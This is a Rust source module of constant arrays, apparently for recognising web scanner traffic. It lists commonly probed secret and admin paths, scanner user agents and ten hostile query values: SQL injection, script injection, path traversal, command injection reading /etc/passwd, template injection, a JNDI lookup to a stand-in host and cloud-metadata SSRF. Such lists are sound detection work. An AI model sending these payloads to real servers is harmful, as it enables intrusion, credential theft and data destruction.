//! What scanners ask for, and what they call themselves.

/// Paths that are there only by mistake.
pub(super) const PROBED: [&str; 48] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/.svn/entries",
    "/.DS_Store",
    "/backup.zip",
    "/backup.sql",
    "/db.sql.gz",
    "/dump.sql",
    "/config.php.bak",
    "/config.json",
    "/web.config",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/wp-content/plugins/",
    "/phpmyadmin/",
    "/pma/index.php",
    "/adminer.php",
    "/cgi-bin/test.cgi",
    "/cgi-bin/luci",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/console/login",
    "/manager/html",
    "/solr/admin/cores",
    "/jenkins/script",
    "/api/swagger.json",
    "/v2/api-docs",
    "/graphql",
    "/debug/pprof/",
    "/telescope/requests",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/shell.php",
    "/test.php",
    "/info.php",
    "/old/index.php",
    "/.well-known/openid-configuration",
    "/owa/auth/logon.aspx",
    "/ecp/default.aspx",
    "/remote/login",
    "/etc/passwd",
];

/// Values that try to make a server do what it should not.
pub(super) const INJECTED: [&str; 10] = [
    "?id=1%27%20OR%20%271%27=%271",
    "?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "?file=../../../../etc/passwd",
    "?id=1%20UNION%20SELECT%20NULL,NULL--",
    "?page=php://filter/convert.base64-encode/resource=index",
    "?cmd=;cat%20/etc/passwd",
    "?name=%7B%7B7*7%7D%7D",
    "?x=$%7Bjndi:ldap://198.51.100.9/a%7D",
    "?url=http://169.254.169.254/latest/meta-data/",
    "?sort=id;DROP%20TABLE%20users",
];

/// Administration paths that a forced browser tries beside the site's own.
pub(super) const ADMIN: [&str; 14] = [
    "/admin",
    "/admin/login",
    "/admin/users",
    "/admin/config",
    "/administrator",
    "/manage",
    "/management/users",
    "/internal/debug",
    "/internal/users",
    "/console",
    "/dashboard/admin",
    "/api/v1/admin",
    "/api/admin/users",
    "/superuser",
];

/// Words from which a list of guesses is made.
pub(super) const GUESSED: [&str; 20] = [
    "old", "new", "test", "dev", "stage", "beta", "v1", "v2", "private", "secret", "data", "files",
    "upload", "export", "logs", "tmp", "cache", "user", "report", "archive",
];

/// Scanners that say what they are.
pub(super) const SCANNERS: [&str; 6] = [
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000029)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "Mozilla/5.0 zgrab/0.x",
];

/// Libraries and tools that programs leave their name to.
pub(super) const TOOLS: [&str; 6] = [
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.9.1",
    "okhttp/4.12.0",
    "axios/1.7.7",
    "Scrapy/2.11.2 (+https://scrapy.org)",
];
